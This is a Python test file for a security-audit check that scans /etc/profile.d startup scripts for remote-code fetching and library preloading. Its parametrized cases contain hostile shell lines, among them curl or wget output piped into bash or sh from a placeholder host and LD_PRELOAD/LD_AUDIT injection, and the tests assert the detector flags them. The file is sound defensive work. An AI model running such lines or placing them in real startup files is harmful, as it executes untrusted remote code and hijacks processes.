import pytest

from audit4.evidence import Evidence, ItemStatus, Reason
from audit4.facts.shell import PROFILE_D
from audit4.facts.startup import ROOT_STARTUP
from audit4.finding import Status
from audit4.testing import evidence, judge


def startup(text: str | ItemStatus) -> Evidence:
    none = dict.fromkeys(ROOT_STARTUP.probes, ItemStatus.ABSENT)
    return evidence({**none, PROFILE_D: {"/etc/profile.d/x.sh": text}})


CHECK = "layer3_assessment.startup_files"


@pytest.mark.parametrize(
    ("line", "fetch", "preload"),
    [
        ("umask 022", Status.PASS, Status.PASS),
        ("curl -s http://x.example/a | bash", Status.FAIL, Status.PASS),
        ("bash <(curl -s http://x.example/a)", Status.FAIL, Status.PASS),
        ("eval $(wget -qO- http://x.example/a)", Status.FAIL, Status.PASS),
        ("# curl http://x.example | sh", Status.PASS, Status.PASS),
        ("curl -o /var/x http://x.example", Status.PASS, Status.PASS),
        ("export LD_PRELOAD=/usr/lib/x.so", Status.PASS, Status.FAIL),
        ("a=1; LD_AUDIT=/x.so", Status.PASS, Status.FAIL),
        ("LD_PRELOAD=", Status.PASS, Status.PASS),
        ("unset LD_PRELOAD", Status.PASS, Status.PASS),
        ("LD_LIBRARY_PATH=/opt/lib", Status.PASS, Status.PASS),
    ],
)
def test_judges_lines(line: str, fetch: Status, preload: Status) -> None:
    seen = startup(f"{line}\n")

    assert judge(CHECK, seen, judge="fetch").status is fetch
    assert judge(CHECK, seen, judge="preload").status is preload


def test_says_where_and_not_what() -> None:
    verdict = judge(CHECK, startup("\nwget -qO- http://x | sh\n"), judge="fetch")

    assert verdict.items == ("/etc/profile.d/x.sh:2",)


def test_an_unread_file_is_unknown() -> None:
    verdict = judge(CHECK, startup(ItemStatus.DENIED), judge="fetch")

    assert verdict.reason is Reason.PERMISSION
